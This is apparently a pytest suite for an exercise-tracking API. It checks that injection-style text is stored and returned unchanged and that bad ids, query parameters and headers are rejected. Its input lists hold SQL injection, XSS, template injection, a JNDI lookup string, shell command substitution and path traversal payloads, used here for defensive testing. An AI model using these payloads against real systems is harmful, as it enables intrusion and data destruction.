"""Text that means something elsewhere (to SQL, HTML, a shell, a terminal) is text here, and comes back as it went."""

import json

import asyncpg
import httpx
import pytest

pytestmark = pytest.mark.anyio

BODY = {"name": "Squat", "sets": 3, "reps": 5}
SQL = [
    "'; DROP TABLE exercises; --",
    "'); DELETE FROM exercises; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "$1",
    "%s %(name)s",
    ":name",
    "\\'; SELECT 1; --",
    "/* x */ -- y",
    "$$; DROP TABLE users; $$",
    "NULL",
]
OTHERS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://x.test/a}",
    "$(reboot) `reboot` | reboot",
    "../../etc/passwd",
    "=1+1",
    "\\u0000 \\x00 %00",
    '{"name": "x"}',
    "back\\slash and \"quotes\" and 'apostrophes'",
]
UNICODE = [
    "Übung für Rücken – schwer",
    "ベンチプレス",
    "تمرين الضغط",
    "приседания",
    "👩‍👩‍👧‍👦 🏋🏽‍♀️",
    "e\u0301 is not \u00e9",
    "Z̸a̸l̸g̸o̸",
    "zero\u200bwidth",
    "\ufb01 ligature",
    "line\u2028separator",
    "\U0010ffff",
    "İstanbul ıI ß ẞ",
]
SHORT = ["' OR 1=1--", "'; --", "$1", "%s", "<b>x</b>", "=1+1", "\\", '"', "日本", "👩‍👩‍👧‍👦"]


@pytest.fixture(params=["POST", "PATCH"])
async def target(request: pytest.FixtureRequest, empty: None, sql: asyncpg.Connection) -> tuple[str, str]:
    """Method and path of both ways to write."""
    if request.param == "POST":
        return "POST", "/exercises"
    exercise = await sql.fetchval(
        "INSERT INTO exercises (routine_id, name, sets, reps) "
        "SELECT id, 'Before', 99, 999 FROM routines WHERE owner_id IS NULL RETURNING id"
    )
    return "PATCH", f"/exercises/{exercise}"


@pytest.mark.parametrize(
    ("field", "text"),
    [*(("name", text) for text in [*SQL, *OTHERS, *UNICODE]), *(("workout_day", text) for text in SHORT)],
)
async def test_a_text_comes_back_as_it_went(
    client: httpx.AsyncClient, sql: asyncpg.Connection, target: tuple[str, str], field: str, text: str
) -> None:
    for escaped in (False, True):
        content = json.dumps(BODY | {field: text}, ensure_ascii=escaped)
        answer = await client.request(*target, content=content, headers={"Content-Type": "application/json"})
        assert answer.is_success, answer.text
        assert answer.json()[field] == text
    assert (await client.get(f"/exercises/{answer.json()['id']}")).json() == answer.json()
    assert (await client.get("/exercises")).json()["items"][-1] == answer.json()
    assert {row[field] for row in await sql.fetch("SELECT * FROM exercises")} == {text}


@pytest.mark.parametrize("text", SQL)
@pytest.mark.parametrize(
    ("parameter", "status"),
    [("page", 422), ("page_size", 422), ("sort_order", 422), ("format", 422), ("scope", 422), ("sort_by", 400)],
)
async def test_sql_in_a_query_is_refused_by_name(
    client: httpx.AsyncClient, parameter: str, status: int, text: str
) -> None:
    answer = await client.get("/exercises", params={parameter: text})
    assert (answer.status_code, answer.headers["content-type"]) == (status, "application/problem+json")
    assert answer.json()["detail"].startswith(parameter)
    if status == 422:
        assert [error["field"] for error in answer.json()["errors"]] == [parameter]
    assert text not in answer.json()["detail"]
    assert (await client.get("/exercises")).json()["total"] == 0


@pytest.mark.parametrize("method", ["GET", "PATCH", "DELETE"])
@pytest.mark.parametrize("text", ["1;DROP TABLE exercises", "1 OR 1=1", "1'--", "1 UNION SELECT 1", "(SELECT 1)"])
async def test_sql_in_an_id_is_refused_by_name(client: httpx.AsyncClient, method: str, text: str) -> None:
    answer = await client.request(method, f"/exercises/{text}", json={"sets": 1} if method == "PATCH" else None)
    assert answer.status_code == 422
    assert [error["field"] for error in answer.json()["errors"]] == ["exercise_id"]


@pytest.mark.parametrize("text", SQL[:4])
@pytest.mark.parametrize("header", ["If-None-Match", "If-Match", "X-Trace-Id", "traceparent", "Accept", "User-Agent"])
async def test_sql_in_a_header_does_nothing(
    client: httpx.AsyncClient, sql: asyncpg.Connection, header: str, text: str
) -> None:
    exercise = (await client.post("/exercises", json=BODY)).json()
    headers = {header: text}
    assert (await client.get("/exercises", headers=headers)).json()["items"] == [exercise]
    changed = await client.patch(f"/exercises/{exercise['id']}", json={"sets": 9}, headers=headers)
    assert changed.status_code == (412 if header == "If-Match" else 200)
    assert await sql.fetchval("SELECT count(*) FROM exercises") == 1


async def test_of_a_field_that_comes_twice_the_last_one_counts(
    client: httpx.AsyncClient, target: tuple[str, str]
) -> None:
    content = '{"name": "First", "sets": 3, "reps": 5, "name": "Last"}'
    answer = await client.request(*target, content=content, headers={"Content-Type": "application/json"})
    assert (answer.is_success, answer.json()["name"]) == (True, "Last")
